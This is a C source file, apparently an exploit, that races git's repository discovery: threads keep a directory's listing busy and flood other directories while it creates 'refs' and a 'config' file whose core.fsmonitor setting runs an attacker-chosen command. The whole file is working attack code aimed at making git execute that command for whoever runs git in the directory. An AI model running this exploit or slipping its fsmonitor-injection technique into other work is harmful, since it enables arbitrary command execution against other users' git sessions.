/* Makes `refs` and `config` in a directory at one time, and holds both up: the directory, in which much
 * lies, is listed all the while. Meanwhile, `refs` is made in hundreds of others. Arguments: that directory,
 * which has `objects`, and the command that the configuration executes. What has come of it is looked at from
 * outside. */
#include "attack.h"
#include <pthread.h>
#include <sys/mman.h>

enum { OTHERS = 300, FLOODS = 4, SPACE = 64 << 20 };
static const char *where, *command;
static volatile int listed, over;

static void *list(void *none) {
    int fd = open(where, O_RDONLY | O_DIRECTORY);
    void *room = mmap(NULL, SPACE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
    while (!over) {
        lseek(fd, 0, SEEK_SET);
        listed = 1;
        syscall(SYS_getdents64, fd, room, SPACE);
    }
    return none;
}

static void *refs(void *none) {
    char path[256];
    snprintf(path, sizeof path, "%s/refs", where);
    mkdir(path, 0700);
    return none;
}

static void *config(void *none) {
    char path[256];
    snprintf(path, sizeof path, "%s/config", where);
    int fd = open(path, O_CREAT | O_WRONLY | O_TRUNC, 0600);
    if (fd >= 0) dprintf(fd, "[core]\n\tbare = false\n\tworktree = .\n\tfsmonitor = \"%s; false\"\n", command);
    return none;
}

static void *flood(void *first) {
    for (long n = (long)first; n < OTHERS; n += FLOODS) {
        char path[64];
        snprintf(path, sizeof path, "other%ld/refs", n);
        mkdir(path, 0700);
    }
    return NULL;
}

int main(int argc, char **argv) {
    pthread_t thread[FLOODS + 4];
    struct stat status;
    char path[256];
    if (argc != 3) return 3;
    where = argv[1], command = argv[2];
    /* That they are not there is known from now on, and no look at the directory waits. */
    snprintf(path, sizeof path, "%s/refs", where), stat(path, &status);
    snprintf(path, sizeof path, "%s/config", where), stat(path, &status);
    for (int n = 0; n < OTHERS; n++) snprintf(path, sizeof path, "other%d", n), mkdir(path, 0700);
    for (int n = 0; n < 2; n++) pthread_create(&thread[n], NULL, list, NULL);
    while (!listed) continue;
    usleep(2000);
    pthread_create(&thread[2], NULL, refs, NULL);
    usleep(3000);
    for (long n = 0; n < FLOODS; n++) pthread_create(&thread[4 + n], NULL, flood, (void *)n);
    for (int n = 0; n < FLOODS; n++) pthread_join(thread[4 + n], NULL);
    pthread_create(&thread[3], NULL, config, NULL);
    usleep(30000);
    over = 1;
    for (int n = 0; n < 4; n++) pthread_join(thread[n], NULL);
    return 0;
}
